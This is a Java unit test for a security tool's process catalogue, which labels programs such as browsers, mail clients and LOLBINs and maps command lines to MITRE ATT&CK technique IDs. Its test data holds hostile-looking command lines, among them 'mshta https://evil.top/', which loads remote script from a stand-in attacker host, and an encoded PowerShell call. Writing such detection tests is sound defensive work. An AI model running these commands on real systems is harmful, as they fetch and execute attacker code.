package io.clicktrail.enricher.process;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import io.clicktrail.enricher.TestTunings;
import io.clicktrail.event.Platform;
import io.clicktrail.evidence.ApplicationKind;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ProcessCatalogueTest {

    private final ProcessCatalogue catalogue = TestTunings.CATALOGUES.processes();

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "WINDOWS|C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|chrome|BROWSER",
                "WINDOWS|MSEDGE.EXE|msedge|BROWSER",
                "WINDOWS|C:\\Program Files\\Island\\Island\\Application\\Island.exe|island|BROWSER",
                "WINDOWS|msedgewebview2.exe|msedgewebview2|WEBVIEW",
                "WINDOWS|OUTLOOK.EXE|outlook|MAIL",
                "WINDOWS|olk.exe|outlook|MAIL",
                "WINDOWS|ms-teams.exe|teams|CHAT",
                "WINDOWS|WINWORD.EXE|winword|OFFICE",
                "WINDOWS|AcroRd32.exe|acrobat|READER",
                "WINDOWS|explorer.exe|explorer|BROKER",
                "WINDOWS|7zFM.exe|7-zip|ARCHIVER",
                "WINDOWS|wscript.exe|wscript|LOLBIN",
                "WINDOWS|mshta.exe|mshta|LOLBIN",
                "MACOS|/Applications/Google Chrome.app/Contents/MacOS/Google Chrome|chrome|BROWSER",
                "MACOS|/usr/bin/osascript|osascript|LOLBIN",
                "LINUX|/usr/lib/firefox/firefox|firefox|BROWSER",
                "LINUX|/bin/bash|shell|LOLBIN",
                "UNKNOWN|C:\\Windows\\System32\\mshta.exe|mshta|LOLBIN",
                "UNKNOWN|/usr/bin/bash|shell|LOLBIN",
                "UNKNOWN|/usr/bin/osascript|osascript|LOLBIN"
            })
    void foldsImagesIntoApplications(Platform platform, String image, String name, ApplicationKind kind) {
        Application application = Objects.requireNonNull(catalogue.of(platform, image));

        assertThat(application.name()).isEqualTo(name);
        assertThat(application.kind()).isEqualTo(kind);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "WINDOWS|powershell.exe|powershell -enc AAAA|T1059.001",
                "WINDOWS|cmd.exe|cmd /c x|T1059.003",
                "WINDOWS|bash.exe|bash -c x|T1059.004",
                "WINDOWS|wscript.exe|wscript E:\\Invoice.vbs|T1059.005",
                "WINDOWS|cscript.exe|CSCRIPT E:\\INVOICE.JS|T1059.007",
                "WINDOWS|python3.exe|python3 x.py|T1059.006",
                "WINDOWS|mshta.exe|mshta https://evil.top/|T1218.005",
                "WINDOWS|msiexec.exe|msiexec /i x.msi|T1218.007",
                "WINDOWS|regsvr32.exe|regsvr32 x.dll|T1218.010",
                "WINDOWS|rundll32.exe|rundll32 x.dll,y|T1218.011",
                "MACOS|/usr/bin/osascript|osascript -e x|T1059.002",
                "MACOS|/bin/zsh|zsh -c x|T1059.004",
                "LINUX|/usr/bin/pwsh|pwsh x.ps1|T1059.001",
                "LINUX|/usr/bin/python3|python3 x.py|T1059.006"
            })
    void saysWhichTechniqueARunOfAnImageIs(Platform platform, String image, String commandLine, String id) {
        var technique = Objects.requireNonNull(catalogue.of(platform, image)).technique();

        assertThat(Objects.requireNonNull(technique).of(commandLine)).isEqualTo(id);
    }

    @Test
    void mostImagesAreNoTechniqueByThemselves() {
        assertThat(Objects.requireNonNull(catalogue.of(Platform.WINDOWS, "chrome.exe"))
                        .technique())
                .isNull();
        assertThat(Objects.requireNonNull(catalogue.of(Platform.WINDOWS, "certutil.exe"))
                        .technique())
                .isNull();
    }

    @Test
    void aTechniqueThatIsNoIdOfAttackIsRefused() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> ImageTechnique.of(List.of("PowerShell")))
                .withMessage("technique is 'PowerShell' but must be an id of ATT&CK such as T1059.001");
    }

    @Test
    void doesNotGuessAtUnknownImages() {
        assertThat(catalogue.of(Platform.WINDOWS, "C:\\x\\notepad.exe")).isNull();
        assertThat(catalogue.of(Platform.WINDOWS, null)).isNull();
        assertThat(catalogue.of(Platform.LINUX, "chrome.exe")).isNull();
    }

    @Test
    void addsTheOperatorsBrowserParents() {
        ProcessCatalogue extended = catalogue.with(Platform.WINDOWS, List.of("Intranet.exe", "outlook.exe"));
        assertThat(extended.of(Platform.WINDOWS, "intranet.exe"))
                .isEqualTo(new Application("intranet", ApplicationKind.CHAT, null));
        assertThat(extended.of(Platform.WINDOWS, "outlook.exe"))
                .isEqualTo(new Application("outlook", ApplicationKind.MAIL, null));
    }
}
